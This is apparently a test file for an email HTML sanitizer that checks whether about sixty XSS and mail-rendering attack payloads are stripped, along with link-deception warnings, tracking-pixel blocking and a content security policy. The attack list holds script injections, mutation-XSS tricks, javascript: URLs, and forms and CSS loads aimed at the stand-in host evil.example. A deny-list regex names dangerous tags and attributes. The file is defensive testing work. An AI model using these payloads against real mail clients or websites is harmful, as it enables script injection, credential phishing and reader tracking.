// Attacks on whoever looks at a mail (threats 18 to 31 and 69), each with its nested and encoded variants.
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { frameDocument, safeHtml } from './index.ts'

const own = { cid: (id: string) => (id === 'p1@x' ? '/files/p1' : null), remoteImages: false }
const safe = (html: string) => safeHtml(html, own).html

const attacks: [string, string][] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script with a source', '<script src=//evil.example/x.js></script>'],
  ['nested tags', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['nested deeper', '<<script>script>alert(1)<</script>/script>'],
  ['upper case and blanks', '<SCRIPT\t\n>alert(1)</SCRIPT >'],
  ['an unfinished tag', '<img src=x onerror=alert(1)//'],
  ['onerror', '<img src=x onerror=alert(1)>'],
  ['ontoggle', '<details open ontoggle=alert(1)>'],
  ['onload in a body', '<body onload=alert(1)>'],
  ['a handler after a slash', '<p/onmouseover=alert(1)>x'],
  ['a handler with a NUL', '<p on\0click=alert(1)>x'],
  ['formaction', '<form><button formaction=javascript:alert(1)>x</button></form>'],
  ['a form that asks for a password', '<form action=https://evil.example><input type=password name=p></form>'],
  ['a form from elsewhere', '<input form=f type=submit formaction=//evil.example>'],
  ['javascript', '<a href="javascript:alert(1)">x</a>'],
  ['javascript in entities', '<a href="&#x6a;&#97;vascript&colon;alert(1)">x</a>'],
  ['javascript with blanks', '<a href=" java\n\tscript:alert(1)">x</a>'],
  ['javascript with a control', '<a href="\x01javascript:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:x">x</a>'],
  ['data', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
  ['data in upper case', '<a href="DaTa:text/html;base64,PHNjcmlwdD4=">x</a>'],
  ['file and blob', '<a href="file:///etc/passwd">x</a><a href="blob:https://x/1">y</a>'],
  ['a path of the desk', '<a href="/api/v1/session/end">x</a><img src="/api/v1/x">'],
  ['an iframe', '<iframe src="https://youtube.com@evil.example/"></iframe>'],
  ['an iframe with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object, embed and applet', '<object data=x.swf></object><embed src=x><applet code=x></applet>'],
  ['SVG', '<svg onload=alert(1)><script>alert(1)</script></svg>'],
  ['SVG with a style', '<svg><style><img src=x onerror=alert(1)></style></svg>'],
  ['SVG with foreign content', '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>'],
  [
    'MathML that turns inside out',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  ],
  ['a form in a form in MathML', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  [
    'raw text elements',
    '<xmp><img src=x onerror=alert(1)></xmp><noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  ],
  ['a title that ends in an attribute', '<textarea><p title="</textarea><img src=x onerror=alert(1)>">'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a comment', '<!--><img src=x onerror=alert(1)>-->'],
  ['a conditional comment', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->'],
  ['CDATA', '<![CDATA[<script>alert(1)</script>]]>'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
  ['base', '<base href="https://evil.example/"><a href="login">x</a>'],
  [
    'a style sheet',
    '<style>@import url(//evil.example/x.css); body{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>',
  ],
  ['a style that loads', '<p style="background:url(//evil.example/p.gif)">x'],
  ['a style that loads by escapes', '<p style="background:u\\72 l(//evil.example)">x'],
  ['a style with a comment', '<p style="background:u/**/rl(//evil.example)">x'],
  ['an image set', '<p style="background:image-set(\'//evil.example\' 1x)">x'],
  ['expression', '<p style="width:expression(alert(1))">x'],
  ['behavior and binding', '<p style="behavior:url(x.htc);-moz-binding:url(x)">x'],
  [
    'over the whole frame',
    '<div style="position:fixed;inset:0;z-index:9999">x</div><div style="POSITION : absolute">y</div>',
  ],
  ['a background attribute', '<table background="https://evil.example/p.gif"><td background=//evil.example>x</table>'],
  [
    'other ways to load',
    '<video src=//evil.example poster=//evil.example></video><audio src=x></audio><img srcset="//evil.example 1x"><input type=image src=//evil.example>',
  ],
  ['a picture map', '<map name=m><area href="javascript:alert(1)"></map><img usemap=#m src=x>'],
  ['names that shadow', '<a id=location name=body href="https://x.example">x</a><img name=getElementById>'],
  ['a table that throws things out', '<table><script>alert(1)</script><img src=x onerror=alert(1)><tr><td>x'],
  ['SVG as a picture', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  [
    'XML',
    '<?xml-stylesheet href="javascript:alert(1)"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  ],
  ['a dialog and a marquee', '<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>'],
  ['a link that pings', '<a href="https://x.example" ping="https://evil.example" download>x</a>'],
  ['a file name', '&lt;img src=x onerror=alert(1)&gt;.txt'],
]

/** What must not stand in any output, in tags: text may say anything. */
function dangers(html: string): string[] {
  const tags = html.match(/<[a-z!/?][^>]*(?:"[^"]*"[^>]*)*>/gi) ?? []
  const forbidden =
    /^<\/?(?:script|style|iframe|object|embed|applet|svg|math|form|input|button|textarea|select|template|noscript|link|meta|base|frame|video|audio|xmp|plaintext|title|marquee|dialog|map|area)|^<[!?]|\son\w+\s*=|javascript:|vbscript:|data:text|srcdoc|srcset|formaction|\sping=|url\(|expression|@import|position|\sid=|\sname=|\sbackground=/i
  return tags.filter((tag) => forbidden.test(tag))
}

describe('attacks', () => {
  test.each(attacks)('%s', (_, html) => {
    for (const variant of [
      html,
      `<div><table><tr><td>${html}</td></tr></table></div>`,
      `<b><p>${html}`,
      `${html}${html}`,
      `<svg>${html}`,
      `<select>${html}</select>`,
    ]) {
      const once = safe(variant)
      expect(dangers(once)).toEqual([])
      expect(safe(once)).toBe(once)
    }
  })

  test('whatever is put together, nothing dangerous stays, and cleaning it again changes nothing', () => {
    const piece = fc.constantFrom(
      ...attacks.map(([, html]) => html),
      '<b>',
      '</b>',
      '<p>',
      '</p>',
      '<table>',
      '<tr>',
      '<td>',
      '</table>',
      '<a href=https://x.example>',
      '</a>',
      '<ul><li>',
      '<!--',
      '-->',
      '"',
      "'",
      '>',
      '<',
      '&lt;',
      'text ',
      '<font size=1>',
      '</div>',
      '<h1>',
      '<svg>',
      '</svg>',
      '<math>',
      '<style>',
      '</style>',
      '<select>',
      '<option>',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const once = safe(pieces.join(''))
        expect(dangers(once)).toEqual([])
        expect(safe(once)).toBe(once)
      }),
      { numRuns: 400 },
    )
  })
})

describe('what stays', () => {
  test('structure, colours and sizes of an ordinary mail', () => {
    const html =
      '<table width="600" cellpadding="4"><tbody><tr><td style="color: #333; padding: 4px" bgcolor="#eeeeee"><b>Hello</b></td></tr></tbody></table>'
    expect(safe(html)).toBe(html)
  })

  test('what the body and Word say of their paragraphs', () => {
    expect(safe('<body bgcolor="#fff"><p class="MsoNormal">x</p>')).toBe(
      '<div style="background-color: #fff"><p style="margin: 0">x</p></div>',
    )
  })
})

describe('links', () => {
  const link = (href: string, text: string) => safe(`<a href="${href}">${text}</a>`)
  test('open apart and tell nothing', () => {
    expect(link('https://x.example/a', 'here')).toBe(
      '<a href="https://x.example/a" target="_blank" rel="noopener noreferrer nofollow" title="https://x.example/a">here</a>',
    )
  })
  test.each([
    ['https://evil.example/', 'https://bank.example/login', 'evil.example'],
    ['https://evil.example/', 'www.bank.example', 'evil.example'],
    ['https://bank.example@evil.example/', 'your bank', 'evil.example'],
    ['https://xn--bnk-rla.example/', 'your bank', 'xn--bnk-rla.example'],
    ['https://x.example/', 'your \u202eknab', 'x.example'],
    ['mailto:a@evil.example', 'b@bank.example', 'a@evil.example'],
  ])('%s that says %s', (href, text, really) => {
    expect(link(href, text)).toContain(`(leads to ${really})</a>`)
  })
  test.each([
    ['https://x.example/a', 'https://x.example/'],
    ['https://www.x.example/', 'x.example'],
    ['https://x.example/', 'report.pdf and more'],
    ['mailto:a@x.example', 'a@x.example'],
  ])('%s that says %s needs no more', (href, text) => expect(link(href, text)).not.toContain('leads to'))
})

describe('pictures', () => {
  const html =
    '<img src="cid:p1@x"><img src="https://x.example/logo.png" alt="Logo" width="200"><img src="https://t.example/1.gif" width="1" height="1"><img src="https://t.example/2.gif" style="display:none"><img src="https://t.example/3.gif" height=0>'
  test('those from elsewhere wait, and are counted; those that nobody sees are gone', () => {
    expect(safeHtml(html, own)).toEqual({ html: '<img src="/files/p1"><img alt="Logo" width="200">', remoteImages: 1 })
  })
  test('when somebody asks, they come without telling from where', () => {
    const shown = safeHtml(html, { ...own, remoteImages: true })
    expect(shown.html).toBe(
      '<img src="/files/p1"><img src="https://x.example/logo.png" alt="Logo" width="200" referrerpolicy="no-referrer" loading="lazy">',
    )
    expect(shown.remoteImages).toBe(0)
  })
})

test('the frame forbids everything but pictures and its own styles', () => {
  const page = frameDocument('<p>x</p>', { remoteImages: false })
  expect(page).toContain(
    `content="default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'"`,
  )
  expect(frameDocument('<p>x</p>', { remoteImages: true })).toContain('img-src data: https: http:;')
})
